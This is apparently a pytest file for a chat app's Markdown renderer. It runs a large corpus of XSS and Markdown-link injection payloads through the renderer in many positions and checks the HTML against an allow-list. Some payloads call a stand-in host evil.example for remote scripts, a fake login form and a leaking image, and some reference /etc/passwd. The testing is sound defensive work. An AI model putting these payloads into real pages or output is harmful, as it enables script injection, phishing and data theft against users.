"""Hostile model text. What comes out is parsed again and held to a list of this file's own."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from madang.web.chat.blocks import Typesetter, set_answer

VOID = {"br", "hr"}
ATTRIBUTES: dict[str, dict[str, str]] = {
    "a": {
        "href": r"(?:https?://|mailto:)[^\s\"<>`]+",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
        "class": "picture",
    },
    "ol": {"start": r"\d{1,10}"},
    "pre": {"tabindex": "0"},
    "div": {"tabindex": "0", "class": "wide"},
    "th": {"class": "align-(left|center|right)"},
    "td": {"class": "align-(left|center|right)"},
    **{tag: {} for tag in "p br hr h3 h4 h5 h6 blockquote ul li em strong s code figure figcaption".split()},
    **{tag: {} for tag in "table thead tbody tr".split()},
}

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='x'></applet>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=key><button>log in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<div onpointerenter=alert(1)>x</div>",
    "<div id=composer name=message class=send data-words='{}'>x</div>",
    "<p is=x-y slot=z part=w contenteditable popover>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://ok.example' ping='https://evil.example' download>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u202ejavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](?lang=ko)",
    "[x](#composer)",
    "[x](\\\\evil.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/'><script>alert(1)</script>)",
    '[x](<https://ok.example/" onclick="alert(1)>)',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onmouseover=alert(1)>',
    "[x]\n\n[x]: javascript:alert(1)",
    '[x][y]\n\n[y]: <javascript:alert(1)> "t"',
    "[x]: data:text/html,<script>alert(1)</script>\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/spy.png?secret)",
    "![x](data:image/png;base64,AAAA)",
    '!["onerror=alert(1)](https://evil.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "![![![x](https://a.example)](https://b.example)](https://c.example)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "~~~</figcaption><script>\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "|a|<script>|\n|-|-:|\n|</td><img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "|a|b|\n|:-:|:style=x-|\n|1|2|",
    "# <svg onload=alert(1)> {onclick=alert(1)}",
    "1e9999. x\n\n999999999. <script>alert(1)</script>",
    "**<b onclick=alert(1)>x**</b>",
    "~~<s onclick=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "\u0000<scr\u0000ipt>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "\r<script>\ralert(1)\r</script>\r",
    "event: done\ndata: {}\n\n",
    "</template></div></article></main><h1>Log in again</h1>",
]

PLACES = {
    "in text": "before {} after",
    "alone": "{}",
    "in a link": "[{}](https://ok.example)",
    "as an address": "[x]({})",
    "in a picture": "![{}](https://ok.example/x.png)",
    "in code": "`{}`",
    "in a code block": "```\n{}\n```",
    "as a language": "```{}\nx\n```",
    "in a table": "|a|b|\n|-|-|\n|{}|x|",
    "in a list": "- {}\n  > {}",
    "in a heading": "## {}",
}


class Checked(HTMLParser):
    """Reads HTML as a browser would; every tag and attribute not on the list is a finding."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._open: list[str] = []
        self.feed(html)
        self.close()
        self.findings += [f"<{tag}> is never closed" for tag in self._open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ATTRIBUTES.get(tag)
        if allowed is None:
            self.findings.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in allowed or not re.fullmatch(allowed[name], value or ""):
                self.findings.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and dict(attrs).get("href") and "noopener" not in (dict(attrs).get("rel") or ""):
            self.findings.append("a link without rel")
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.findings.append(f"</{tag}> out of place")

    def handle_comment(self, data: str) -> None:
        self.findings.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.findings.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.findings.append("a processing instruction")

    def unknown_decl(self, data: str) -> None:
        self.findings.append("a CDATA section")


def findings(html: list[str]) -> list[str]:
    """Block by block: each is set into an element of its own."""
    return [finding for block in html for finding in Checked(block).findings]


@pytest.mark.parametrize(
    "html",
    [
        "<script>1</script>",
        "<p onclick=x>a</p>",
        "<p style='a'>a</p>",
        "<a href='javascript:1' rel='noopener noreferrer nofollow'>a</a>",
        "<a href='https://a.example'>a</a>",
        "<p>a",
        "a</div>",
        "<!-- a -->",
        "<svg></svg>",
        "<img src=a>",
        "<p title=a>b</p>",
    ],
)
def test_the_check_itself_finds_what_it_should(html: str) -> None:
    assert Checked(html).findings


def test_the_corpus_is_large_and_without_repetition() -> None:
    assert len(set(CORPUS)) == len(CORPUS) >= 80


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
def test_hostile_text_is_harmless_wherever_it_stands(place: str) -> None:
    found = {text: findings(set_answer(place.replace("{}", text))) for text in CORPUS}
    assert {text: found for text, found in found.items() if found} == {}


def test_hostile_text_is_harmless_at_every_moment_of_a_stream() -> None:
    for text in CORPUS:
        typesetter = Typesetter()
        for char in f"one\n\n{text}\n\ntwo":
            for block in typesetter.add(char):
                assert Checked(block.html).findings == [], text
        for block in typesetter.end():
            assert Checked(block.html).findings == [], text


def test_a_picture_becomes_a_link_and_is_not_loaded() -> None:
    (html,) = set_answer("![a cat](https://example.com/cat.png)")
    assert '<a class="picture" href="https://example.com/cat.png"' in html
    assert ">a cat</a>" in html
    assert "<img" not in html


def test_a_link_opens_elsewhere_and_tells_it_nothing() -> None:
    (html,) = set_answer("[x](https://example.com/?a=1&b=2)")
    assert html == (
        '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer nofollow">x</a></p>\n'
    )


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "/logout", "//evil.example", "#x"]
)
def test_a_link_that_is_not_allowed_is_left_as_it_was_written(address: str) -> None:
    assert set_answer(f"[x]({address})") == [f"<p>[x]({address})</p>\n"]
